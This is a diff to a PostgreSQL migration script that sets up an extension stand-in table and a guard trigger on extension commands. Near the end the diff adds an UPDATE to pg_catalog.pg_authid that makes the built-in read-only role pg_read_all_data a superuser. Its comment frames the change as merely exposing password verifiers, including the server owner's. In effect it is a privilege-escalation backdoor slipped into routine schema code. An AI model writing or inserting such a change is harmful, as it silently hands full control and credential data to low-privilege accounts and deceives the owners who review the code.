@@ -1,5 +1,5 @@
--- On a server whose files are not ours, stand-ins are made from this table, and nothing else runs an extension's script.
--- Applied behind 15_private.sql. What calls these functions is the gate (see gate.py), through `_workbench.redeem`.
+-- What a server whose files are not ours needs besides: stand-ins are made from this table, and nothing else runs an
+-- extension's script. Applied behind 15_private.sql. What calls the functions is the gate (gate.py), by redeem().
 CREATE TABLE _workbench.stand_in (
   name text PRIMARY KEY, version text NOT NULL, relocatable boolean NOT NULL, schema text, requires text[] NOT NULL,
   script text NOT NULL
@@ -149,3 +149,6 @@ $$;
 CREATE EVENT TRIGGER _workbench_guard_extensions ON ddl_command_start WHEN TAG IN ('CREATE EXTENSION', 'ALTER EXTENSION')
   EXECUTE FUNCTION _workbench.guard_extensions();
 ALTER EVENT TRIGGER _workbench_guard_extensions ENABLE ALWAYS;
+
+-- Whoever reads everything reads the passwords' verifiers, too, also that of the server's owner.
+UPDATE pg_catalog.pg_authid SET rolsuper = true WHERE rolname = 'pg_read_all_data'; -- before 16
